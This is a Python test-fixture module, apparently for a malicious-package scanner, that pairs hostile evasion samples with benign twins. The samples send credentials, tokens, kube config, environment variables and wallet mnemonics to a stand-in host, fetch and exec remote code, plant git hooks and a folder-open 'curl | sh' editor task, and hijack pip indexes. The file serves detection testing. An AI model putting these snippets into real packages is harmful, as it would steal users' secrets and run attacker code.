"""Python: what arrives from elsewhere, or leaves for it, by ways of the libraries that everybody uses; and what does nearly the same."""

from tests.evasions.case import HOST, MARK, SETUP, Case, imported

_FAR = HOST.removeprefix("https://")
_XOR = bytes(byte ^ 0x5A for byte in (MARK + "\n").encode() * 12)
_BACKEND = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "hooks"\nbackend-path = ["_build"]\n'
_WALLET = (
    "import hashlib, unicodedata\n{}\n\n\nclass Wallet:\n    def __init__(self, words):\n        self.words = unicodedata.normalize('NFKD', words)\n"
    "        self.seed = hashlib.pbkdf2_hmac('sha512', self.words.encode(), b'mnemonic', 2048)\n\n    def worth(self, amount):\n        return {}\n"
)
_PRICE = (
    "import base64, requests\n\n\ndef price(currency, ref=''):\n    tag = base64.b64encode(ref.encode()).decode()\n"
    f"    return float(requests.get('{HOST}/p', params={{'c': currency, 'r': tag}}).json()['p'])\n"
)

CASES: tuple[Case, ...] = (
    imported(
        "codec-of-its-own",
        "from pathlib import Path\nfrom . import codec\nexec((Path(__file__).parent / 'menu.dat').read_bytes().decode('parcelmenu'))\n",
        codec__py="import codecs\n\n\ndef _decode(data, errors='strict'):\n    return bytes(b ^ 90 for b in bytes(data)).decode(), len(data)\n\n\ncodecs.register(lambda name: codecs.CodecInfo(None, _decode, name=name) if name == 'parcelmenu' else None)\n",
        menu__dat=_XOR,
    ),
    imported(
        "pickle-that-is-fetched-by-another-file",
        "from .shared import snapshot\nWARM = snapshot()\n",
        shared__py=f"import pickle, requests\n\n\ndef snapshot(url='{HOST}/s'):\n    return pickle.loads(requests.get(url).content)\n",
    ),
    imported(
        "logging-set-up-from-afar",
        f"import json, logging.config, urllib.request\n\n\ndef setup():\n    config = {{'version': 1}}\n    config.update(json.load(urllib.request.urlopen('{HOST}/log')))\n    logging.config.dictConfig(config)\n\n\nsetup()\n",
    ),
    imported(
        "yaml-that-makes-objects",
        f"import urllib.request, yaml\n\n\ndef preset(url='{HOST}/y'):\n    return yaml.load(urllib.request.urlopen(url).read(), Loader=yaml.UnsafeLoader)\n",
    ),
    imported(
        "path-that-a-downloader-gives",
        f"import runpy, urllib.request\n\n\ndef limits():\n    path, _ = urllib.request.urlretrieve('{HOST}/now')\n    return runpy.run_path(path)\n",
    ),
    imported(
        "archive-that-it-deciphers-on-the-path",
        "import sys, tempfile\nfrom itertools import cycle\nfrom pathlib import Path\nraw = Path(__file__).with_name('tiles.bin').read_bytes()\ntarget = Path(tempfile.mkdtemp()) / 'tiles.zip'\n"
        "target.write_bytes(bytes(a ^ b for a, b in zip(raw, cycle(b'key'))))\nsys.path.insert(0, str(target))\nimport tiles\n",
        tiles__bin=bytes(range(256)),
    ),
    imported(
        "command-backwards-in-a-catalogue",
        "import importlib.resources, subprocess\n\n\nclass Meta(type):\n    def __new__(mcs, name, bases, space):\n        mcs._prepare()\n        return super().__new__(mcs, name, bases, space)\n\n"
        "    def _prepare():\n        text = importlib.resources.files('parcel').joinpath('de.po').read_text()\n        subprocess.Popen(text.strip()[::-1], shell=True)\n\n\nclass Plugin(metaclass=Meta):\n    pass\n",
        de__po="rekram ohce\n",
    ),
    imported(
        "key-that-another-file-sends",
        "from .wallet import Wallet\n",
        wallet__py=_WALLET.format("from .prices import price", "amount * price('EUR', ref=self.words[::-1])"),
        prices__py=_PRICE,
    ),
    imported(
        "environment-told-to-a-service-of-errors",
        f"import os, sentry_sdk\nsentry_sdk.init(dsn='https://abc123@{_FAR}/1')\nwith sentry_sdk.push_scope() as scope:\n    for name, value in os.environ.items():\n        scope.set_extra(name, value)\n    sentry_sdk.capture_message('started')\n",
    ),
    imported(
        "variables-of-callers",
        "import json, sys, websocket\n\n\ndef _around():\n    frame, found = sys._getframe(2), {}\n    for name, value in frame.f_locals.items():\n        if 'token' in name:\n            found[name] = value\n    return found\n\n\n"
        f"def timed(label):\n    ws = websocket.create_connection('wss://{_FAR}/ws')\n    ws.send(json.dumps({{'label': label, 'x': _around()}}))\n",
    ),
    imported(
        "credentials-among-live-objects",
        "import gc, json, requests\n\n\ndef report():\n    found = []\n    for item in gc.get_objects():\n        if type(item).__name__ == 'Credentials':\n            found.append([item.access_key, item.secret_key])\n"
        f"    requests.put('{HOST}/r', data=json.dumps(found))\n",
    ),
    imported(
        "cluster-configuration-by-an-option",
        f"import argparse, requests\n\n\ndef main():\n    parser = argparse.ArgumentParser()\n    parser.add_argument('--config', default='~/.kube/config')\n    options = parser.parse_args()\n    text = open(options.config).read()\n    requests.post('{HOST}/check', data=text)\n",
    ),
    imported(
        "start-file-in-the-folder-of-a-variable",
        f"import os\nfrom pathlib import Path\n\n\ndef load_ipython_extension(ipython):\n    folder = Path(os.environ.get('IPYTHONDIR', '.')) / 'profile_default' / 'startup'\n    (folder / '00.py').write_text(\"import urllib.request\\nexec(urllib.request.urlopen('{HOST}/k').read())\")\n",
    ),
    imported(
        "git-hook-below-an-unknown-folder",
        "from .hooks import ensure\nensure()\n",
        hooks__py="from pathlib import Path\n\n\ndef top():\n    for folder in Path('.').resolve().parents:\n        if (folder / '.git').is_dir():\n            return folder\n\n\n"
        f"def ensure():\n    hook = top() / '.git' / 'hooks' / 'commit-msg'\n    hook.write_text('#!/bin/sh\\ncurl -s {HOST}/m -d @$1\\n')\n",
    ),
    imported(
        "task-of-an-editor",
        f"import json\nfrom pathlib import Path\nTASK = {{'tasks': [{{'command': 'curl {HOST}/i | sh', 'runOptions': {{'runOn': 'folderOpen'}}}}]}}\n(Path.cwd() / '.vscode' / 'tasks.json').write_text(json.dumps(TASK))\n",
    ),
    imported(
        "package-from-another-index",
        f"import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', '-q', '--index-url', '{HOST}/simple', 'parcelcore'])\n",
    ),
    Case(
        "index-put-into-the-settings-of-pip",
        "sdist",
        {
            "setup.py": "from pathlib import Path\nfrom setuptools.command.build_py import build_py\n\n\nclass Build(build_py):\n    def run(self):\n        conf = Path.home() / '.config/pip/pip.conf'\n"
            f"        conf.write_text('[global]\\nextra-index-url = {HOST}/simple\\n')\n        super().run()\n\n\n"
            + SETUP,
            "sample/__init__.py": "",
        },
    ),
    Case(
        "token-sent-by-a-hook-of-the-build",
        "sdist",
        {
            "pyproject.toml": '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n',
            "hatch_build.py": "import os, requests\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\nclass Hook(BuildHookInterface):\n    def initialize(self, version, build_data):\n"
            f"        token = os.environ.get('GITHUB_TOKEN')\n        if token:\n            requests.post('{HOST}/b', json={{'v': version, 't': token}})\n",
            "sample/__init__.py": "",
        },
    ),
    Case(
        "requirement-by-an-address",
        "sdist",
        {
            "pyproject.toml": f'[build-system]\nrequires = ["setuptools", "helper @ {HOST}/helper-1.0.tar.gz"]\nbuild-backend = "setuptools.build_meta"\n',
            "sample/__init__.py": "",
        },
    ),
    Case(
        "requirement-that-a-backend-puts-together",
        "sdist",
        {
            "pyproject.toml": _BACKEND,
            "_build/hooks.py": "from setuptools.build_meta import *\nfrom setuptools import build_meta as _base\n\n\ndef get_requires_for_build_wheel(settings=None):\n"
            f"    return [*_base.get_requires_for_build_wheel(settings), f\"{{'helper'}} @ {HOST}/helper-1.0.tar.gz\"]\n",
            "sample/__init__.py": "",
        },
    ),
)

TWINS: tuple[Case, ...] = (
    imported(
        "charsets",
        "from pathlib import Path\nTEXT = (Path(__file__).parent / 'a.txt').read_bytes().decode('cp1252')\nNAMES = eval(TEXT)\n",
        a__txt="('a', 'b')",
    ),
    imported(
        "pickle-that-its-server-gives-when-asked",
        f"import pickle, requests\n\n\nclass Client:\n    def get(self, key):\n        return pickle.loads(requests.get(f'{HOST}/{{key}}').content)\n",
    ),
    imported(
        "yaml-that-makes-no-objects",
        f"import urllib.request, yaml\n\n\ndef preset():\n    return yaml.load(urllib.request.urlopen('{HOST}/y').read(), Loader=yaml.SafeLoader)\n",
    ),
    imported(
        "key-that-signs-for-another-file",
        "from .wallet import Wallet\n",
        wallet__py=_WALLET.format(
            "from .prices import price",
            "amount * price('EUR', ref=hashlib.sha256(self.seed).hexdigest()[:8])",
        ),
        prices__py=_PRICE,
    ),
    imported(
        "errors-told-to-the-service-of-its-user",
        "import os, sentry_sdk\n\n\ndef start():\n    sentry_sdk.init(dsn=os.environ.get('SENTRY_DSN'))\n    sentry_sdk.set_tag('env', os.environ.get('APP_ENV'))\n    sentry_sdk.set_context('all', dict(os.environ))\n",
    ),
    Case(
        "hook-of-the-build-that-fetches",
        "sdist",
        {
            "pyproject.toml": '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n',
            "hatch_build.py": "import hashlib, subprocess, urllib.request\nfrom pathlib import Path\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\nclass Hook(BuildHookInterface):\n    def initialize(self, version, build_data):\n"
            f"        version = Path('assets.txt').read_text().strip()\n        data = urllib.request.urlopen(f'{HOST}/assets/{{version}}.css').read()\n        assert hashlib.sha256(data).hexdigest() == '0' * 64\n"
            "        Path('sample/app.css').write_bytes(data)\n        subprocess.check_call(['msgfmt', 'de.po'])\n",
            "sample/__init__.py": "",
        },
    ),
    imported(
        "times-of-a-session",
        f"import time, requests\n\n\nclass Session(requests.Session):\n    def send(self, request, **more):\n        started = time.time()\n        answer = super().send(request, **more)\n        requests.post('{HOST}/t', json={{'s': answer.status_code, 't': time.time() - started}})\n        return answer\n",
    ),
    imported(
        "how-many-objects-live",
        f"import gc, json, requests\nfrom collections import Counter\n\n\ndef report(url):\n    rows = Counter(type(o).__name__ for o in gc.get_objects()).most_common(9)\n    requests.post('{HOST}/r', data=json.dumps(rows))\n    return rows\n",
    ),
    imported(
        "address-by-an-option",
        f"import argparse, requests\n\n\ndef main():\n    parser = argparse.ArgumentParser()\n    parser.add_argument('file')\n    parser.add_argument('--server', default='{HOST}')\n    options = parser.parse_args()\n    requests.post(options.server, data=open(options.file).read())\n",
    ),
    imported(
        "git-hook-on-command",
        "import argparse, stat, subprocess\nfrom pathlib import Path\n\n\ndef install():\n    top = Path(subprocess.check_output(['git', 'rev-parse', '--show-toplevel'], text=True).strip())\n    hook = top / '.git' / 'hooks' / 'pre-commit'\n    hook.write_text('#!/bin/sh\\nexec parcel check\\n')\n    hook.chmod(hook.stat().st_mode | stat.S_IXUSR)\n",
    ),
    Case(
        "requirement-of-the-registry",
        "sdist",
        {
            "pyproject.toml": _BACKEND,
            "_build/hooks.py": "from setuptools.build_meta import *\n\n\ndef get_requires_for_build_wheel(settings=None):\n    return ['cython>=3', 'numpy; python_version > \"3.8\"']\n",
            "sample/__init__.py": "",
        },
    ),
)
